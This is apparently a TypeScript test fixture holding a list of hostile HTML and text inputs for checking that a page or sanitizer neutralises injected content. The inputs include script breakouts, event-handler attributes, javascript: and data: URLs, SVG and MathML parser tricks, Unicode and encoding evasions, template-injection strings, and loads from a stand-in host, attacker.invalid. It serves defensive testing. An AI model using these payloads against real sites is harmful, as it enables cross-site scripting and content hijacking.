/**
 * What foreign text may try so that a page which shows it runs something, loads something or hides something.
 * Whatever of it came to run would set `globalThis.injected`.
 */
const RUN = 'globalThis.injected=1'
const FETCH = 'https://attacker.invalid/x'

export const HOSTILE: readonly string[] = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</title></textarea></noscript></template><img src=x onerror=${RUN}>`,
  `<!--><script>${RUN}</script>-->`,
  `]]><script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${FETCH}.png"><link rel=stylesheet href="${FETCH}.css">`,
  `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
  `<svg><a href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `</text></svg></a><svg><script>${RUN}</script></svg>`,
  `<a href="javascript:${RUN}" id=calls autofocus onfocus="${RUN}" tabindex=1>x</a>`,
  `<iframe srcdoc="<script>parent.injected=1</script>"></iframe>`,
  `<object data="${FETCH}"></object><embed src="${FETCH}">`,
  `<base href="${FETCH}"><meta http-equiv=refresh content="0;url=${FETCH}">`,
  `<form action="${FETCH}"><button autofocus>x</button></form>`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<template><script>${RUN}</script></template><slot onslotchange=${RUN}>`,
  `<style>@import "${FETCH}"; * { background: url(${FETCH}) }</style>`,
  `" onmouseover="${RUN}" autofocus onfocus="${RUN}" x="`,
  `' onmouseover='${RUN}' autofocus onfocus='${RUN}' x='`,
  `\` onmouseover=\`${RUN}\` autofocus onfocus=${RUN} `,
  `x" style="background:url(${FETCH})" class="`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `${FETCH} and //attacker.invalid/x`,
  `&lt;script&gt;${RUN}&lt;/script&gt; &#60;script&#62; &#x3c;`,
  `\u003cscript\u003e${RUN}\u003c/script\u003e`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `<scr\0ipt>${RUN}</scr\0ipt>`,
  `<scr\u200bipt>${RUN}</script>`,
  `\ud83d<script>${RUN}</script>\ude00`,
  `\u202e<script>${RUN}</script>\u202c \u2066evil\u2069 \u200f`,
  `\x1b]0;title\x07\x1b[2J<script>${RUN}</script>`,
  `${'${'}${RUN}${'}'} {{constructor.constructor('${RUN}')()}}`,
  `__proto__`,
]
